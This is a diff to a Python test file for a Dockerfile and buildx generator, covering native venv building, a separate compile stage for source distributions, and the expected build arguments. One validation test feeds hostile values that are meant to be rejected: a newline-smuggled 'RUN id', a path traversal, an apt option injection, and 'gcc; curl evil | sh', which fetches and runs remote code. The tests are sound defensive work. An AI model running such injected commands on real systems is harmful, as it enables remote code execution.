@@ -109,21 +109,105 @@ def test_installs_are_offline_hash_checked_and_bind_mounted(hello: config.Config
     deps = stage(text, "deps")
     assert "RUN --network=none --mount=type=bind,from=wheelhouse," in deps
     assert "source=${TARGETOS}-${TARGETARCH}${TARGETVARIANT},target=/wheelhouse" in deps
-    assert "--no-index" in deps
-    assert "--require-hashes" in deps
-    assert "requirements-base.txt" in deps
+    assert "--mount=type=bind,from=tools,target=/tools" in deps
+    assert "--mount=type=bind,source=containerize/buildsteps,target=/containerize-steps" in deps
+    assert (
+        "/usr/bin/python3 /containerize-steps/wheels.py install --venv /opt/venv "
+        "--wheelhouse /wheelhouse --tools /tools --python-version 3.11 install-base.json"
+    ) in deps
     assert "COPY --from=wheelhouse" not in text
+    assert "pip install" not in text
+    assert "/opt/containerize/pip" not in text
     assert "--invalidation-mode unchecked-hash" in stage(text, "venv-gunicorn")
 
 
-def test_build_tools_only_where_an_sdist_needs_them(hello: config.Config) -> None:
+def test_venvs_are_made_on_the_build_platform_and_run_on_the_target(
+    hello: config.Config,
+) -> None:
+    """Creating the venv, placing wheels and compiling bytecode never run emulated:
+    they are in stages of the build platform; every stage that runs the app or
+    installs OS packages is the target's."""
     text = dockerfile.render(make(hello))
+    froms = {
+        line.rsplit(" AS ", 1)[1]: line
+        for line in text.splitlines()
+        if line.startswith("FROM ") and " AS " in line
+    }
+    assert froms["builder"] == "FROM --platform=${BUILDPLATFORM} ${BASE_IMAGE} AS builder"
+    assert froms["base"] == "FROM ${BASE_IMAGE} AS base"
+    native = {"builder"}
+    for name, line in froms.items():
+        parent = line.split()[1]
+        if parent in native or parent.startswith("--platform"):
+            native.add(name)
+    assert native == {"builder", "deps"} | {f"venv-{s}" for s in hello.servers}
+    for name in froms:
+        body = stage(text, name)
+        if name in native:
+            assert "apt-get" not in body, name
+            assert "--check" not in body, name
+        else:
+            assert "wheels.py install" not in body, name
+            assert "compileall" not in body, name
+    # The venv is made once, natively, with the base image's interpreter.
+    assert stage(text, "builder").endswith(
+        "RUN --network=none /usr/bin/python3 -m venv --without-pip /opt/venv"
+    )
+
+
+def test_build_tools_only_where_an_sdist_needs_them(hello: config.Config) -> None:
+    p = make(hello)
+    text = dockerfile.render(p)
     assert "apt-get" not in stage(text, "venv-gunicorn")
-    assert "apache2-dev gcc libc6-dev python3-dev" in stage(text, "venv-mod_wsgi")
+    assert "gcc" not in text
     final = stage(text, "mod_wsgi")
     assert "apache2 libpython3.11" in final
-    assert "gcc" not in final
     assert "apt-get" not in stage(text, "gunicorn")
+    compiling = dockerfile.render_compile(p)
+    assert "apache2-dev gcc libc6-dev python3-dev" in stage(compiling, "compile")
+
+
+def test_sdists_compile_on_the_target_platform_from_a_native_build_env(
+    hello: config.Config,
+) -> None:
+    text = dockerfile.render_compile(make(hello))
+    env = stage(text, "build-env")
+    assert env.startswith("FROM --platform=${BUILDPLATFORM} ${BASE_IMAGE} AS build-env")
+    assert "--with pip build-env.json" in env
+    compiling = stage(text, "compile")
+    assert compiling.startswith("FROM ${BASE_IMAGE} AS compile")
+    assert "COPY --link --from=build-env /opt/build-env /opt/build-env" in compiling
+    assert compiling.splitlines()[-1] == (
+        "    /opt/build-env/bin/python /containerize-steps/wheels.py build "
+        "--wheelhouse /wheelhouse --out /wheels compile.json"
+    )
+    assert "RUN --network=none --mount=type=bind,from=wheelhouse," in compiling
+    assert text.endswith("FROM scratch AS wheels\nCOPY --link --from=compile /wheels/ /\n")
+
+
+def test_compile_invocation_exports_the_wheels_per_platform(
+    hello: config.Config, tmp_path: Path
+) -> None:
+    inv = plan.compile_invocation(
+        make(hello),
+        context=tmp_path / "compile",
+        wheelhouse=tmp_path / "wh",
+        tools=tmp_path / "tools",
+        platforms=[LINUX_ARM64],
+        dest=tmp_path / "out",
+        builder=None,
+    )
+    assert buildx.argv(inv) == [
+        "docker", "buildx", "build", "--progress", "auto",
+        "--file", str(tmp_path / "compile" / "Dockerfile"),
+        "--target", "wheels",
+        "--platform", "linux/arm64",
+        "--build-context", f"tools={tmp_path / 'tools'}",
+        "--build-context", f"wheelhouse={tmp_path / 'wh'}",
+        "--provenance", "false",
+        "--output", f"type=local,dest={tmp_path / 'out'},platform-split=true",
+        str(tmp_path / "compile"),
+    ]  # fmt: skip
 
 
 def test_dependency_layers_come_before_the_application(hello: config.Config) -> None:
@@ -139,7 +223,10 @@ def test_dependency_layers_come_before_the_application(hello: config.Config) -> 
     assert not any(line.startswith("RUN") for line in final)
     assert "USER 10001:10001" in final
     check = stage(text, "app-gunicorn")
-    assert check.startswith("FROM venv-gunicorn AS app-gunicorn")
+    # The import runs on the target platform, with the venv made natively.
+    assert check.startswith(
+        "FROM base AS app-gunicorn\nCOPY --link --from=venv-gunicorn /opt/venv /opt/venv"
+    )
     assert check.splitlines()[-1] == (
         'RUN --network=none ["/opt/venv/bin/python", '
         '"/opt/containerize/containerize_wsgi.py", "--check"]'
@@ -161,7 +248,7 @@ def test_static_files_made_at_build_time_come_from_their_own_stage(
     )
     text = dockerfile.render(make(replace(hello, static=static)))
     made = stage(text, "static")
-    assert made.startswith("FROM deps AS static")
+    assert made.startswith("FROM base AS static\nCOPY --link --from=deps /opt/venv /opt/venv")
     assert (
         "RUN --network=none python manage.py collectstatic \\\n && test -d /app/staticfiles" in made
     )
@@ -189,7 +276,7 @@ def test_no_syntax_line_and_base_pinned(hello: config.Config) -> None:
 
 def test_empty_app_dependencies_skip_the_install(hello: config.Config) -> None:
     text = dockerfile.render(make(hello, base_is_empty=True))
-    assert "requirements-base.txt" not in text
+    assert "install-base.json" not in text
 
 
 def test_invocations_argv(hello: config.Config, tmp_path: Path) -> None:
@@ -198,6 +285,7 @@ def test_invocations_argv(hello: config.Config, tmp_path: Path) -> None:
         p,
         context=tmp_path / "ctx",
         wheelhouse=tmp_path / "wh",
+        tools=tmp_path / "tools",
         output="push",
         builder="arm-farm",
         cache_from=["type=registry,ref=r/cache"],
@@ -212,6 +300,7 @@ def test_invocations_argv(hello: config.Config, tmp_path: Path) -> None:
         "--platform", "linux/amd64,linux/arm64",
         "--tag", "127.0.0.1:5000/containerize-examples/hello-wsgi:gunicorn",
         "--tag", "127.0.0.1:5000/containerize-examples/hello-wsgi:1.0.0-gunicorn",
+        "--build-context", f"tools={tmp_path / 'tools'}",
         "--build-context", f"wheelhouse={tmp_path / 'wh'}",
         "--cache-from", "type=registry,ref=r/cache",
         "--provenance", "false",
@@ -385,12 +474,14 @@ def test_hostile_server_stage_values(hello: config.Config) -> None:
     for bad, message in [
         (replace(gunicorn, stop_signal="SIGTERM\nRUN id"), "the gunicorn server: "),
         (replace(gunicorn, name="gunicorn AS x"), "cannot name a build stage"),
-        (replace(gunicorn, requirements="../../etc/x.txt"), "not a file name in the wheelhouse"),
-        (replace(gunicorn, build_packages=("gcc; curl evil | sh",)), "not a Debian package"),
+        (replace(gunicorn, manifest="../../etc/x.json"), "not a file name in the wheelhouse"),
         (replace(gunicorn, runtime_packages=("-oAPT::Update=x",)), "not a Debian package"),
     ]:
         with pytest.raises(ConfigError, match=message):
             dockerfile.render(replace(p, servers=(bad,)))
+    bad = replace(gunicorn, build_packages=("gcc; curl evil | sh",))
+    with pytest.raises(ConfigError, match="not a Debian package"):
+        dockerfile.render_compile(replace(p, servers=(bad,)))
 
 
 def test_ids_and_port_must_be_numbers(hello: config.Config) -> None:
